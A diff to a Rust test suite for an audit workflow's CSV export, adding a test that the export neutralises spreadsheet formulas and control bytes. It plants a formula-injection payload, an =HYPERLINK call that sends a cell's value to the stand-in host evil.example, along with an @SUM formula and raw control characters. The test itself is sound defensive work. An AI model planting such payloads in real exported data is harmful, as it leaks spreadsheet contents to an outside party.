@@ -462,6 +462,11 @@ fn re_signed_requesters_recorders_sources_and_missing_events_are_caught() {
     }
 }
 
+/// What a hostile agent answers: a live formula for the auditor's
+/// spreadsheet, then NUL, BEL, ESC and a bare carriage return.
+const HOSTILE_ANSWER: &str =
+    "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"x\")\u{0}\u{7}\u{1b}[31m\rred";
+
 /// People for the workflow that goes through every kind of step.
 const ML_SECOND: &str = "ml2@example.com";
 const AWAY: &str = "compliance-away@example.com";
@@ -554,7 +559,7 @@ async fn every_kind_of_step(
         .start_audit_run(&run_start(agent, 24))
         .await
         .expect("start a run");
-    let cases: Vec<_> = (0..24)
+    let mut cases: Vec<_> = (0..24)
         .map(|n| {
             let sex = if n % 2 == 0 { "female" } else { "male" };
             let outcome = if n < 20 {
@@ -565,6 +570,9 @@ async fn every_kind_of_step(
             case(&format!("c{n}"), sex, &format!("p{}", n / 2), outcome)
         })
         .collect();
+    // An agent answering with a spreadsheet formula and control bytes.
+    cases[0].response = HOSTILE_ANSWER.into();
+    cases[0].reason = "@SUM(A1:A9)".into();
     ml.record_case_outcomes(&started.run_id, &cases)
         .await
         .expect("outcomes");
@@ -746,6 +754,27 @@ async fn a_workflow_through_every_kind_of_step_exports_over_http_and_verifies() 
         .expect("cases");
     assert_eq!(cases_csv.lines().count(), 25, "a header and 24 cases");
     assert!(cases_csv.contains("Should we advance candidate c7?"));
+    // No cell a spreadsheet would run, no raw control byte.
+    let mut reader = csv::Reader::from_reader(cases_csv.as_bytes());
+    for record in reader.records() {
+        for cell in record.expect("a CSV record").iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '@', '\t', '\r'])
+                    && !(cell.starts_with('-') && cell.parse::<f64>().is_err()),
+                "a formula reaches the spreadsheet: {cell:?}"
+            );
+            assert!(
+                !cell
+                    .chars()
+                    .any(|c| c.is_control() && c != '\n' && c != '\t'),
+                "a raw control character: {cell:?}"
+            );
+        }
+    }
+    assert!(
+        cases_csv.contains("'=HYPERLINK(") && cases_csv.contains("'@SUM(A1:A9)"),
+        "the hostile answer is kept, quoted: {cases_csv}"
+    );
     let events = text("trail/events.jsonl");
     for kind in [
         "deployment_requested",
